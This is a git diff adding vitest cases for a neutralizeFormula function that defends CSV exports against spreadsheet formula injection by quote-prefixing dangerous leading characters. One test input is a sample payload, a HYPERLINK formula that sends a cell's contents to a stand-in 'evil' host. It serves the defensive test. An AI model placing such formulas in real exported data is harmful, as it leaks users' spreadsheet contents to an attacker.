@@ -1,7 +1,7 @@
 import { stringify } from 'csv-stringify/sync';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { csvFormatter, decimalText } from './csv.js';
+import { csvFormatter, decimalText, neutralizeFormula } from './csv.js';
 
 describe('csvFormatter', () => {
   it('quotes fields holding the delimiter, quotes or line breaks, doubling inner quotes', () => {
@@ -49,5 +49,23 @@ describe('decimalText', () => {
       { numRuns: 2000 },
     );
     expect(decimalText(null)).toBe('null');
+  });
+});
+
+describe('neutralizeFormula', () => {
+  it.each([
+    ['=HYPERLINK("http://evil/?"&A1)', `'=HYPERLINK("http://evil/?"&A1)`],
+    ['+1+2', "'+1+2"],
+    ['-2+3', "'-2+3"],
+    ['@SUM(A1)', "'@SUM(A1)"],
+    ['\tcmd', "'\tcmd"],
+    ['\rcmd', "'\rcmd"],
+  ])('prefixes %j with a quote', (text, expected) => {
+    expect(neutralizeFormula(text)).toBe(expected);
+  });
+
+  it('leaves other text as it is', () => {
+    for (const text of ['L-42', 'a=b', '', ' =x', "'quoted", 'null'])
+      expect(neutralizeFormula(text)).toBe(text);
   });
 });
